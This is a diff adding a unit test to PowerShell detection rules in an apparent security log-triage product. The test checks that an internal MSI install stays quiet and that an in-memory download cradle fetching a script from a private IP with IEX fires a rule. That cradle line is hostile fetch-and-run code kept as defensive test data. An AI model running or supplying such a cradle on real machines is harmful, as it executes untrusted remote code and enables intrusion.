@@ -99,4 +99,13 @@ class PowerShellRulesTest {
         .isEmpty();
     org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Set-MpPreference -SignatureUpdateInterval 4"))).isEmpty();
   }
+
+  @Test
+  void installFromTheInternalRepositoryIsQuietButRunningItInMemoryIsNot() {
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Invoke-WebRequest -Uri https://pkg.example.internal/agent.msi "
+        + "-OutFile C:\\Temp\\agent.msi; Start-Process msiexec.exe -ArgumentList '/i C:\\Temp\\agent.msi /qn' -Wait")))
+        .doesNotContain("shield-ps-exec-001");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("IEX (New-Object Net.WebClient).DownloadString("
+        + "'http://10.20.30.40/s.ps1')"))).contains("shield-ps-exec-001");
+  }
 }
